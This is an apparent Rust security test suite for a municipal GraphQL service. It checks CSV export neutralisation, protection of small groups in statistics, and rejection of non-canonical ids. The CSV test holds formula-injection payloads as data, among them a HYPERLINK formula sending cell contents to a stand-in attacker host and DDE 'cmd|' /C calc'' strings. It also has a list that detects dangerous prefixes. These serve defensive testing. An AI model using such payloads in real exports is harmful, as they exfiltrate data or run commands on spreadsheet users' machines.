//! Security probe (issue 10), data items: CSV formula injection in the export (9),
//! statistics that give a small group away by subtraction (11), and global ids that must
//! have exactly one spelling (13).

use std::collections::{BTreeMap, BTreeSet};

use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD},
};
use chrono::{NaiveDate, TimeZone, Utc};
use e2e::{JsonBody, Sent, TestApp, error_codes, spawn_app_with, tips::quiet};
use entity::{StaffRole, TipKind, TipStatus, municipality, tip};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, Set};
use serde_json::{Value, json};

// ---------------------------------------------------------------------------------------
// 9. CSV export formulas
// ---------------------------------------------------------------------------------------

/// What makes a spreadsheet evaluate a cell (OWASP's list, plus LF and full-width forms).
fn dangerous(cell: &str) -> bool {
    cell.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ])
}

async fn csv_rows(app: &TestApp) -> (String, Vec<csv::StringRecord>) {
    let text = app
        .get("/export/promises.csv")
        .sent()
        .await
        .text()
        .await
        .expect("utf-8");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows = reader
        .records()
        .collect::<Result<Vec<_>, _>>()
        .expect("valid CSV");
    (text, rows)
}

#[tokio::test]
async fn csv_export_neutralises_formulas_and_json_keeps_them() {
    let app = spawn_app_with(quiet).await;
    let admin = app.staff_token(StaffRole::Admin, &[], None).await;
    let title = "=HYPERLINK(\"http://angripare.example/?d=\"&A1,\"Klicka här\")";
    let created = app
        .query_as(
            &admin,
            "mutation($i: CreatePromiseInput!) { createPromise(input: $i) { promise { id } } }",
            json!({ "i": { "key": "csv-injektion", "title": title, "municipalities": ["1461"],
                "validFrom": "2027-01-01", "validTo": "2027-12-31", "summary": "+sammanfattning" } }),
        )
        .await;
    let promise_id = created["createPromise"]["promise"]["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let area = app
        .query_as(
            &admin,
            "mutation($i: CreateFocusAreaInput!) { createFocusArea(input: $i) { focusArea { id } } }",
            json!({ "i": { "promiseId": promise_id, "title": "@SUM(1+1)*cmd|' /C calc'!A0" } }),
        )
        .await;
    let area_id = area["createFocusArea"]["focusArea"]["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let texts = [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\u{FF1D}1+1",
        "Trygghetsvandring; =1+1",
        "Vanlig text, med \"citat\" och komma",
    ];
    for (i, text) in texts.iter().enumerate() {
        let focus = if i % 2 == 0 {
            Value::String(area_id.clone())
        } else {
            Value::Null
        };
        app.query_as(
            &admin,
            "mutation($i: CreateCommitmentInput!) { createCommitment(input: $i) { commitment { id } } }",
            json!({ "i": { "promiseId": promise_id, "focusAreaId": focus, "text": text,
                "responsible": "JOINT",
                "target": { "quantity": 3, "unit": "-insatser", "period": "YEAR" } } }),
        )
        .await;
    }
    app.query_as(
        &admin,
        "mutation($id: ID!) { publishPromise(input: {id: $id}) { promise { id } } }",
        json!({ "id": promise_id }),
    )
    .await;

    // The JSON export keeps every text verbatim (as stored: trimmed on input).
    let json_export: Value = app.get("/export/promises.json").json_body().await;
    let exported = json_export["promises"]
        .as_array()
        .expect("promises")
        .iter()
        .find(|p| p["id"] == promise_id.as_str())
        .expect("the new promise is exported")
        .clone();
    assert_eq!(exported["title"], title);
    let mut stored: Vec<String> = exported["commitments"]
        .as_array()
        .into_iter()
        .flatten()
        .chain(
            exported["focusAreas"]
                .as_array()
                .into_iter()
                .flatten()
                .flat_map(|fa| fa["commitments"].as_array().into_iter().flatten()),
        )
        .map(|c| c["text"].as_str().expect("text").to_owned())
        .collect();
    stored.sort();
    let mut expected: Vec<String> = texts.iter().map(|t| t.trim().to_owned()).collect();
    expected.sort();
    assert_eq!(stored, expected, "texts round-trip in the JSON export");

    let (raw, rows) = csv_rows(&app).await;
    // Every cell of every row: nothing starts a formula.
    for row in &rows {
        for cell in row {
            assert!(!dangerous(cell), "cell {cell:?} in {row:?}");
        }
    }
    // Nor in a spreadsheet that splits on `;` (Swedish default): every data cell is
    // quoted, so no unquoted field of the raw text starts a formula.
    for line in raw.lines().skip(1) {
        for piece in line.split([';', ',']) {
            assert!(!dangerous(piece.trim_start_matches(' ')) || line.starts_with('"'));
        }
        assert!(line.starts_with('"'), "data cells are quoted: {line}");
    }
    let ours: Vec<&csv::StringRecord> = rows
        .iter()
        .filter(|r| r.get(1) == Some("csv-injektion"))
        .collect();
    assert_eq!(ours.len(), texts.len());
    let mut cells: Vec<String> = ours
        .iter()
        .map(|r| r.get(10).expect("commitment").to_owned())
        .collect();
    cells.sort();
    let mut neutralised: Vec<String> = expected
        .iter()
        .map(|t| {
            if dangerous(t) {
                format!("'{t}")
            } else {
                t.clone()
            }
        })
        .collect();
    neutralised.sort();
    assert_eq!(cells, neutralised, "a quote in front, the text intact");
    for r in &ours {
        assert_eq!(r.get(2), Some(format!("'{title}").as_str()));
        assert_eq!(r.get(14), Some("'-insatser"));
        // Numbers stay numbers.
        assert_eq!(r.get(13), Some("3"));
        assert!(
            r.get(18)
                .is_some_and(|p| p.is_empty() || p.parse::<f64>().is_ok())
        );
        let fa = r.get(9).expect("focus area");
        assert!(
            fa.is_empty() || fa == "'@SUM(1+1)*cmd|' /C calc'!A0",
            "{fa}"
        );
    }
    // The seeded rows are unchanged: plain text is not prefixed.
    assert!(
        rows.iter()
            .any(|r| r.get(14) == Some("riktade trafikinsatser"))
    );
}

// ---------------------------------------------------------------------------------------
// 11. Statistics by subtraction
// ---------------------------------------------------------------------------------------

const MIN: i64 = 5;

fn small(n: i64) -> bool {
    (1..MIN).contains(&n)
}

/// A tiny deterministic generator, so that a failure can be replayed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[(self.next() % from.len() as u64) as usize]
    }
}

const KINDS: [TipKind; 3] = [TipKind::Tip, TipKind::Idea, TipKind::Opinion];
const MONTHS: u32 = 6;

/// One distribution: per (month 1..=6 of 2025, kind), (open, closed).
type Plan = BTreeMap<(u32, usize), (u32, u32)>;

async fn load(app: &TestApp, municipality_id: i32, plan: &Plan, round: usize) {
    tip::Entity::delete_many()
        .exec(&app.db)
        .await
        .expect("clear");
    let mut rows = Vec::new();
    let mut n = 0;
    for (&(month, kind), &(open, closed)) in plan {
        for i in 0..open + closed {
            n += 1;
            let day = 1 + (i * 7 + kind as u32 * 3) % 28;
            let received = Utc
                .with_ymd_and_hms(2025, month, day, 12, 0, 0)
                .single()
                .expect("a time");
            let is_closed = i < closed;
            rows.push(tip::ActiveModel {
                reference: Set(format!("STA-{round}-{n}")),
                municipality_id: Set(municipality_id),
                kind: Set(KINDS[kind]),
                message: Set(String::new()),
                concerns_promise_id: Set(None),
                concerns_focus_area_id: Set(None),
                concerns_commitment_id: Set(None),
                routed_contact_id: Set(None),
                routing_reason: Set("MUNICIPALITY_DEFAULT".into()),
                status: Set(if is_closed {
                    TipStatus::Handled
                } else {
                    TipStatus::New
                }),
                name: Set(None),
                email: Set(None),
                phone: Set(None),
                wants_reply: Set(false),
                ip_hash: Set(None),
                received_at: Set(received),
                updated_at: Set(received),
                status_token_hash: Set(None),
                handled_at: Set(is_closed.then(|| received + chrono::Duration::hours(30))),
                erased_at: Set(None),
                ..Default::default()
            });
        }
    }
    for chunk in rows.chunks(50) {
        tip::Entity::insert_many(chunk.to_vec())
            .exec(&app.db)
            .await
            .expect("tips inserted");
    }
}

/// One answer of `tipStatistics`, for the period of days `[from, to]`.
struct Answer {
    from: NaiveDate,
    to: NaiveDate,
    total: Option<i64>,
    cells: BTreeMap<(String, String), i64>,
    closed: Option<i64>,
}

async fn ask(app: &TestApp, token: &str, from: NaiveDate, to: NaiveDate) -> Answer {
    let data = app
        .query_as(
            token,
            "query($f: Date!, $t: Date!) { tipStatistics(municipality: \"mellerud\", from: $f, to: $t) { totalCount counts { month kind count } shareHandled } }",
            json!({ "f": from.to_string(), "t": to.to_string() }),
        )
        .await;
    let s = &data["tipStatistics"];
    let total = s["totalCount"].as_i64();
    let cells = s["counts"]
        .as_array()
        .expect("counts")
        .iter()
        .map(|c| {
            (
                (
                    c["month"].as_str().expect("month").to_owned(),
                    c["kind"].as_str().expect("kind").to_owned(),
                ),
                c["count"].as_i64().expect("count"),
            )
        })
        .collect();
    let closed = match (s["shareHandled"].as_f64(), total) {
        (Some(share), Some(t)) => Some((share * t as f64).round() as i64),
        (Some(_), None) => panic!("a share without a total gives nothing away, but is odd"),
        _ => None,
    };
    Answer {
        from,
        to,
        total,
        cells,
        closed,
    }
}

fn day(month: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(2025, month, d).expect("a day")
}

fn last_day(month: u32) -> NaiveDate {
    day(month + 1, 1).pred_opt().expect("a day")
}

/// Every way to work out a group from the answers: no result may be 1 to 4.
fn check(plan: &Plan, answers: &[Answer]) {
    let kind_name = |k: usize| match KINDS[k] {
        TipKind::Tip => "TIP",
        TipKind::Idea => "IDEA",
        TipKind::Opinion => "OPINION",
    };
    let label = format!("{plan:?}");
    for a in answers {
        let visible: i64 = a.cells.values().sum();
        for (cell, &n) in &a.cells {
            assert!(n >= MIN, "cell {cell:?} = {n} shown; {label}");
            // Shown cells are the true counts of their month.
            let month: u32 = cell.0[5..].parse().expect("month");
            let kind = (0..KINDS.len())
                .find(|&k| kind_name(k) == cell.1)
                .expect("kind");
            let (open, closed) = plan.get(&(month, kind)).copied().unwrap_or_default();
            assert_eq!(n, i64::from(open + closed), "{cell:?}; {label}");
        }
        if let Some(total) = a.total {
            assert!(total >= MIN, "total {total}; {label}");
            assert!(
                !small(total - visible),
                "{}..{}: total {total} − shown {visible} reveals a group of {}; {label}",
                a.from,
                a.to,
                total - visible
            );
        }
        if let (Some(closed), Some(total)) = (a.closed, a.total) {
            assert!(!small(closed) && !small(total - closed), "{label}");
        }
    }
    for a in answers {
        for b in answers {
            if !(b.from <= a.from && a.to <= b.to) || (a.from, a.to) == (b.from, b.to) {
                continue;
            }
            // `a` lies inside `b`: their difference is the tips of the days between.
            if let (Some(ta), Some(tb)) = (a.total, b.total) {
                assert!(
                    !small(tb - ta),
                    "{}..{} minus {}..{} reveals a group of {}; {label}",
                    b.from,
                    b.to,
                    a.from,
                    a.to,
                    tb - ta
                );
                let hidden_a = ta - a.cells.values().sum::<i64>();
                let hidden_b = tb - b.cells.values().sum::<i64>();
                let consistent = a.cells.iter().all(|(c, n)| b.cells.get(c) == Some(n));
                if consistent {
                    assert!(!small(hidden_b - hidden_a), "{label}");
                }
            }
            for (cell, na) in &a.cells {
                if let Some(nb) = b.cells.get(cell) {
                    assert!(!small(nb - na), "cell {cell:?}: {nb} vs {na}; {label}");
                }
            }
            if let (Some(ca), Some(cb), Some(ta), Some(tb)) = (a.closed, b.closed, a.total, b.total)
            {
                assert!(!small(cb - ca), "closed {cb} vs {ca}; {label}");
                assert!(!small((tb - cb) - (ta - ca)), "open; {label}");
            }
        }
    }
}

#[tokio::test]
async fn no_small_group_can_be_worked_out_from_the_statistics() {
    let app = spawn_app_with(quiet).await;
    let staff = app.staff_token(StaffRole::Admin, &[], None).await;
    let mellerud = municipality::Entity::find()
        .filter(municipality::Column::Slug.eq("mellerud"))
        .one(&app.db)
        .await
        .expect("db")
        .expect("mellerud")
        .id;
    // The probe's case first (6 tips and 2 ideas: 8 − 6 = 2), then one of one, then
    // random distributions with many small groups.
    let mut plans: Vec<Plan> = vec![
        BTreeMap::from([((1, 0), (3, 3)), ((1, 1), (2, 0))]),
        BTreeMap::from([((2, 0), (0, 7)), ((2, 2), (1, 0)), ((3, 1), (5, 5))]),
        // A quiet month (2 tips) next to a busy one: no total may contain the quiet one.
        BTreeMap::from([((1, 0), (1, 1)), ((2, 0), (4, 3)), ((3, 2), (6, 0))]),
    ];
    let mut rng = Rng(0x5eed_1234_abcd_0001);
    for round in 0..8 {
        // Every other distribution is sparse, with whole months below the threshold.
        let (opens, closeds): (&[u32], &[u32]) = if round % 2 == 0 {
            (&[0, 0, 1, 2, 3, 5, 6, 9], &[0, 0, 1, 4, 5, 8])
        } else {
            (&[0, 0, 0, 1, 2, 6], &[0, 0, 0, 1, 5])
        };
        let mut plan = Plan::new();
        for month in 1..=MONTHS {
            for kind in 0..KINDS.len() {
                let open = rng.pick(opens);
                let closed = rng.pick(closeds);
                if open + closed > 0 {
                    plan.insert((month, kind), (open, closed));
                }
            }
        }
        plans.push(plan);
    }
    // Every period of whole months, and periods that cut months at different days.
    let mut periods = BTreeSet::new();
    for first in 1..=MONTHS {
        for last in first..=MONTHS {
            periods.insert((day(first, 1), last_day(last)));
        }
    }
    for (from, to) in [
        (day(1, 1), day(1, 30)),
        (day(1, 2), day(1, 31)),
        (day(1, 10), day(1, 20)),
        (day(1, 1), day(2, 14)),
        (day(2, 15), day(3, 31)),
        (day(1, 1), day(6, 29)),
        (day(3, 3), day(3, 3)),
    ] {
        periods.insert((from, to));
    }
    for (round, plan) in plans.iter().enumerate() {
        load(&app, mellerud, plan, round).await;
        let mut answers = Vec::new();
        for &(from, to) in &periods {
            answers.push(ask(&app, &staff, from, to).await);
        }
        check(plan, &answers);
        // Something is still shown when the numbers allow it.
        if round == 2 {
            assert!(
                answers
                    .iter()
                    .any(|a| a.total.is_some() || !a.cells.is_empty())
            );
        }
    }
    // A period's answer is the answer of the whole months it touches.
    let whole = ask(&app, &staff, day(1, 1), day(2, 28)).await;
    let cut = ask(&app, &staff, day(1, 20), day(2, 3)).await;
    assert_eq!((whole.total, whole.cells), (cut.total, cut.cells));
}

#[tokio::test]
async fn large_groups_are_still_shown() {
    let app = spawn_app_with(quiet).await;
    let staff = app.staff_token(StaffRole::Admin, &[], None).await;
    let mellerud = municipality::Entity::find()
        .filter(municipality::Column::Slug.eq("mellerud"))
        .one(&app.db)
        .await
        .expect("db")
        .expect("mellerud")
        .id;
    let plan = BTreeMap::from([((1, 0), (5, 6)), ((1, 1), (0, 7)), ((2, 2), (5, 5))]);
    load(&app, mellerud, &plan, 0).await;
    let a = ask(&app, &staff, day(1, 1), day(2, 28)).await;
    assert_eq!(a.total, Some(28));
    assert_eq!(a.cells.len(), 3);
    assert_eq!(a.closed, Some(18));
    check(&plan, &[a]);
}

// ---------------------------------------------------------------------------------------
// 13. Canonical ids
// ---------------------------------------------------------------------------------------

fn plain(id: &str) -> String {
    String::from_utf8(URL_SAFE_NO_PAD.decode(id).expect("base64")).expect("utf-8")
}

/// Spellings that decode (or nearly) to the same object as `id` but are not `id`.
fn variants(id: &str) -> Vec<String> {
    let text = plain(id);
    let (name, row) = text.split_once(':').expect("Type:row");
    let mut texts = vec![
        format!("{name}:+{row}"),
        format!("{name}:0{row}"),
        format!("{name}:000{row}"),
        format!("{name}: {row}"),
        format!("{name}:{row} "),
        format!("{name}:{row}\n"),
        format!(" {name}:{row}"),
        format!("{name}:{row}.0"),
        format!("{name}:{row}:{row}"),
        format!("{}:{row}", name.to_lowercase()),
        format!("{}:{row}", name.to_uppercase()),
        format!("{name}:-0"),
        format!("{name}:0"),
        format!("{name}:-{row}"),
        format!(
            "{name}:{}",
            u64::from(u32::MAX) + 1 + row.parse::<u64>().expect("row")
        ),
        format!("{name}:99999999999999999999999999"),
    ];
    texts.sort();
    texts.dedup();
    let mut out: Vec<String> = texts.iter().map(|t| URL_SAFE_NO_PAD.encode(t)).collect();
    out.push(URL_SAFE.encode(&text));
    out.push(STANDARD.encode(&text));
    out.push(format!("{id}="));
    out.push(format!("{id}=="));
    out.push(format!(" {id}"));
    out.push(format!("{id} "));
    out.push(format!("{id}\n"));
    out.push(id.to_lowercase());
    out.push(id.to_uppercase());
    // The same bytes with non-zero unused trailing bits.
    if !id.len().is_multiple_of(4) {
        let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let last = id.chars().last().expect("a char");
        let pos = alphabet.find(last).expect("in the alphabet");
        let tweaked = alphabet.chars().nth(pos ^ 1).expect("a char");
        out.push(format!("{}{tweaked}", &id[..id.len() - 1]));
    }
    out.retain(|v| v != id);
    out.sort();
    out.dedup();
    out
}

/// A refused id: an error with one of the two codes, and no data.
fn refused(body: &Value, field: &str, what: &str) {
    let codes = error_codes(body);
    assert!(
        !codes.is_empty()
            && codes
                .iter()
                .all(|c| c == "BAD_USER_INPUT" || c == "NOT_FOUND"),
        "{what}: {body}"
    );
    assert!(
        body["data"].is_null() || body["data"][field].is_null(),
        "{what}: {body}"
    );
}

#[tokio::test]
async fn ids_have_one_spelling_only() {
    let app = spawn_app_with(quiet).await;
    let admin = app.staff_token(StaffRole::Admin, &[], None).await;
    let data = app
        .query(
            "{ promises(first: 100) { nodes { id key title municipalities { id } focusAreas { id commitments { id } } commitments { id } signatories { id } contacts { id } } } }",
            json!({}),
        )
        .await;
    let nodes = data["promises"]["nodes"].as_array().expect("nodes");
    let promise = nodes
        .iter()
        .find(|p| p["focusAreas"].as_array().is_some_and(|f| !f.is_empty()))
        .expect("a promise with focus areas");
    let promise_id = promise["id"].as_str().expect("id").to_owned();
    let title = promise["title"].as_str().expect("title").to_owned();
    let mut ids: Vec<String> = vec![promise_id.clone()];
    for path in [
        &promise["municipalities"][0]["id"],
        &promise["focusAreas"][0]["id"],
        &promise["focusAreas"][0]["commitments"][0]["id"],
        &promise["signatories"][0]["id"],
        &promise["contacts"][0]["id"],
    ] {
        if let Some(id) = path.as_str() {
            ids.push(id.to_owned());
        }
    }
    assert!(ids.len() >= 4, "{ids:?}");

    let node = "query($id: ID!) { node(id: $id) { id } }";
    let nodes_q = "query($ids: [ID!]!) { nodes(ids: $ids) { id } }";
    for id in &ids {
        // The canonical spelling works.
        let ok = app.query(node, json!({ "id": id })).await;
        assert_eq!(ok["node"]["id"], id.as_str(), "{}", plain(id));
        for variant in variants(id) {
            let what = format!("{} as {variant:?}", plain(id));
            let body = app.graphql(node, json!({ "id": variant })).await;
            assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{what}: {body}");
            refused(&body, "node", &what);
            let body = app.graphql(nodes_q, json!({ "ids": [id, variant] })).await;
            assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{what}: {body}");
            refused(&body, "nodes", &what);
        }
    }

    let public = "query($id: ID!) { promise(id: $id) { id title } }";
    let update =
        "mutation($i: UpdatePromiseInput!) { updatePromise(input: $i) { promise { id } } }";
    let create_area =
        "mutation($i: CreateFocusAreaInput!) { createFocusArea(input: $i) { focusArea { id } } }";
    let tip = "mutation($i: SubmitTipInput!) { submitTip(input: $i) { tip { reference } } }";
    let area = promise["focusAreas"][0]["id"].as_str().expect("area");
    for variant in variants(&promise_id) {
        let what = format!("{} as {variant:?}", plain(&promise_id));
        let body = app.graphql(public, json!({ "id": variant })).await;
        assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{what}: {body}");
        refused(&body, "promise", &what);
        let body = app
            .graphql_as(
                &admin,
                update,
                json!({ "i": { "id": variant, "title": "Kapad titel" } }),
            )
            .await;
        assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{what}: {body}");
        let body = app
            .graphql_as(
                &admin,
                create_area,
                json!({ "i": { "promiseId": variant, "title": "Kapat område" } }),
            )
            .await;
        assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{what}: {body}");
        let body = app
            .graphql(
                tip,
                json!({ "i": { "municipality": "mellerud", "kind": "TIP", "concerns": variant,
                    "message": "Ett tips om en gatlykta som är trasig." } }),
            )
            .await;
        assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{what}: {body}");
    }
    for variant in variants(area) {
        let body = app
            .graphql_as(
                &admin,
                "mutation($i: UpdateFocusAreaInput!) { updateFocusArea(input: $i) { focusArea { id } } }",
                json!({ "i": { "id": variant, "title": "Kapat område" } }),
            )
            .await;
        assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{variant}: {body}");
    }
    // Nothing changed through an alias.
    let after = app.query(public, json!({ "id": promise_id })).await;
    assert_eq!(after["promise"]["title"], title.as_str());
    let areas = app
        .query(
            "query($id: ID!) { promise(id: $id) { focusAreas { title } } }",
            json!({ "id": promise_id }),
        )
        .await;
    assert!(!areas.to_string().contains("Kapat"), "{areas}");

    // Cursors too: one spelling per offset.
    let first = app
        .query(
            "{ promises(first: 1) { pageInfo { endCursor } nodes { id } } }",
            json!({}),
        )
        .await;
    let cursor = first["promises"]["pageInfo"]["endCursor"]
        .as_str()
        .expect("cursor")
        .to_owned();
    let page = "query($a: String) { promises(first: 1, after: $a) { nodes { id } } }";
    assert!(app.graphql(page, json!({ "a": cursor })).await["errors"].is_null());
    let offset = plain(&cursor);
    let n = offset.strip_prefix("o:").expect("offset cursor");
    for bad in [
        format!("o:+{n}"),
        format!("o:0{n}"),
        format!("o: {n}"),
        format!("o:{}", u64::MAX),
    ] {
        let body = app
            .graphql(page, json!({ "a": URL_SAFE_NO_PAD.encode(&bad) }))
            .await;
        assert_eq!(error_codes(&body), ["BAD_USER_INPUT"], "{bad}: {body}");
    }
}
